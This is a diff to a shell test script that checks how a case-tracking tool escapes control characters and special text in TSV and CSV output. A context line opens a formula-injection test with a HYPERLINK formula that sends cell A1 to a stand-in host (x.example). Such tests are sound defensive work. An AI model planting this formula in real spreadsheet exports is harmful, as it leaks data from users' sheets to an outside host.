@@ -58,6 +58,16 @@ check "case show" run 0 "$RENDA" case show 1
 check "  shows them escaped" contains "$T/out" 'A\x1b[2J\x07B\u009bC'
 check "audit list" run 0 "$RENDA" audit list --entity case --format csv
 check "  sends none" clean "$T/out"
+# Text around them copied as it is: U+00A0 and ° (lead byte C2, as C1's), a backslash, a
+# tab, a line feed, a quote; a C1 code between two of them.
+q "UPDATE vcase SET title = '温度' || char(160) || '30°C' || char(92) || 'x' || char(9) || 'y'
+	|| char(10) || 'z\"q' || char(176) || char(133) || char(176) || '末' WHERE id = 1"
+check "case list (TSV) with them" run 0 "$RENDA" case list
+check "  copies U+00A0 and ° and escapes the rest" contains "$T/out" \
+	"$(printf '温度\302\24030°C')\\\\x\\ty\\nz\"q°\\u0085°末"
+check "case list --format csv with them" run 0 "$RENDA" case list --format csv
+check "  copies them, doubles the quote, keeps tab and line feed, escapes the C1 code" \
+	contains "$T/out" "$(printf '"温度\302\24030°C\\x\ty\nz""q°\\u0085°末"')"
 
 # ---- formulas -------------------------------------------------------------------------------
 q "UPDATE vcase SET title = '=HYPERLINK(\"http://x.example/\"&A1,\"点我\")' WHERE id = 1"
